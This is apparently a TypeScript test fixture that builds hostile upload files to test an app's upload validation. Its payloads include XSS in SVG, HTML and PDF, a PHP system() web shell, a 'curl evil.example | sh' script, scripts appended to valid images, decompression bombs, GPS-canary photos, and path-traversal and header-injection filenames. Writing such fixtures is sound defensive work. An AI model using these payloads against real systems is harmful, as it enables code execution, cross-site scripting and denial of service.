import sharp from 'sharp';
import { aBmp, aGif, aJpeg, aPdf, aPhotoWithPlace, aPng, aWebp } from '@/lib/testing/files';
import { aHeic } from '@/lib/testing/heic';

/** Files of attackers: active content, decompression bombs, hidden data and path traversal. */
export type HostileFile = { name: string; type: string; bytes: Buffer };

const SCRIPT = '<script>alert(document.domain)</script>';
/** Each is sent under its own extension and under accepted ones. */
const ACTIVE: readonly [ending: string, type: string, text: string][] = [
  ['svg', 'image/svg+xml', `<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`],
  [
    'svg',
    'image/svg+xml',
    '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  ],
  ['html', 'text/html', `<!DOCTYPE html>${SCRIPT}`],
  ['html', 'text/html', `\ufeff  <!-- a photo -->${SCRIPT}`],
  ['xhtml', 'application/xhtml+xml', `<html xmlns="http://www.w3.org/1999/xhtml">${SCRIPT}</html>`],
  ['xml', 'text/xml', '<?xml version="1.0"?><?xml-stylesheet href="evil.xsl"?><a/>'],
  ['mhtml', 'multipart/related', `MIME-Version: 1.0\nContent-Type: text/html\n\n<html>${SCRIPT}`],
  ['hta', 'application/hta', '<script language="VBScript">CreateObject("WScript.Shell")</script>'],
  ['php', 'application/x-php', '<?php system($_GET[0]); ?><html>'],
  ['sh', 'text/x-sh', '#!/bin/sh\ncurl evil.example | sh\n'],
  ['exe', 'application/x-msdownload', 'MZ\u0000\u0001\u0000'.padEnd(256, '\u0000')],
  ['jar', 'application/java-archive', 'PK\u0003\u0004\u0014\u0000'.padEnd(128, '\u0000')],
];
const DISGUISES = ['jpg', 'png', 'pdf', 'txt'] as const;

const NAMES = [
  '../../../etc/cron.d/menu.txt',
  '..\\..\\windows\\menu.txt',
  '/etc/passwd/menu.txt',
  'menu\r\nSet-Cookie: a=b.txt',
  'menu"; filename="page.html.txt',
  'menu\u202etxt.exe.txt',
  'con.txt',
  `${'m'.repeat(400)}.txt`,
  '<img src=x onerror=alert(1)>.txt',
  '.htaccess.txt',
];

export async function hostileFiles(): Promise<HostileFile[]> {
  const active = ACTIVE.flatMap(([ending, type, text]) => [
    hostile(`page.${ending}`, text, type),
    ...DISGUISES.map((disguise) => hostile(`page.${ending}.${disguise}`, text)),
  ]);
  return [...active, ...(await passengers()), ...(await tellTales()), ...(await bombs()), ...named()];
}

/** Valid pictures and documents with hidden content appended. */
async function passengers(): Promise<HostileFile[]> {
  const page = `<html><body>${SCRIPT}`;
  const archive = 'PK\u0003\u0004archive';
  const behind = (bytes: Buffer, text: string) => Buffer.concat([bytes, Buffer.from(text)]);
  return [
    hostile('a.jpg', behind(await aJpeg(), page)),
    hostile('b.jpg', behind(await aJpeg(), archive)),
    hostile('a.png', behind(await aPng(), page)),
    hostile('b.png', behind(await aPng(), '<?php system($_GET[0]); ?>')),
    hostile('a.gif', behind(await aGif(), `;/*${archive}*/=alert(1)`)),
    hostile('a.webp', behind(await aWebp(), page)),
    hostile('a.bmp', behind(aBmp(), page)),
    hostile('a.heic', behind(aHeic(), page)),
    hostile('a.pdf', behind(aPdf(), '\n/OpenAction<</S/JavaScript/JS(app.alert(1))>>')),
    hostile('b.pdf', behind(aPdf(), page)),
    hostile('c.pdf', Buffer.concat([Buffer.from(page), aPdf()])),
  ];
}

/** Pictures that contain the place where they were taken. */
async function tellTales(): Promise<HostileFile[]> {
  const exif = {
    IFD0: { Copyright: 'GPS-CANARY' },
    IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '52/1 3/1 20/1' },
  };
  const photo = () => sharp({ create: { width: 40, height: 30, channels: 3, background: '#3a7' } });
  const comment = Buffer.from('\u00ff\u00fe\u0000\u000cGPS-CANARY', 'latin1');
  const plain = await aJpeg();
  return [
    hostile('place.jpg', await aPhotoWithPlace()),
    hostile('place.png', await photo().png().withExif(exif).toBuffer()),
    hostile('place.webp', await photo().webp().withExif(exif).toBuffer()),
    hostile('place.heic', aHeic()),
    hostile(
      'xmp.jpg',
      await photo().jpeg().withXmp('<x:xmpmeta xmlns:x="adobe:ns:meta/">GPS-CANARY</x:xmpmeta>').toBuffer(),
    ),
    hostile('comment.jpg', Buffer.concat([plain.subarray(0, 2), comment, plain.subarray(2)])),
    hostile('place.tiff', await photo().tiff().withExif(exif).toBuffer()),
    hostile('place.avif', await photo().avif({ effort: 0 }).withExif(exif).toBuffer()),
  ];
}

/** Files that are small to send and enormous to decode. */
async function bombs(): Promise<HostileFile[]> {
  const pixels = sharp({ create: { width: 12_000, height: 12_000, channels: 3, background: '#fff' } });
  const [bmp, heic] = [aBmp(), aHeic()];
  for (const at of [18, 22]) bmp.writeInt32LE(60_000, at);
  for (const at of [8, 12]) heic.writeUInt32BE(60_000, heic.indexOf('ispe') + at);
  const gif = Buffer.from(await aGif());
  for (const at of [6, 8]) gif.writeUInt16LE(65_535, at);
  return [
    hostile('bomb.png', await pixels.png({ compressionLevel: 1 }).toBuffer()),
    hostile('bomb.bmp', bmp),
    hostile('bomb.heic', heic),
    hostile('bomb.gif', gif),
  ];
}

/** Harmless text under hostile names. */
function named(): HostileFile[] {
  return NAMES.map((name) => hostile(name, 'The menu of the day'));
}

function hostile(name: string, bytes: string | Buffer, type = ''): HostileFile {
  return { name, type, bytes: Buffer.from(bytes) };
}
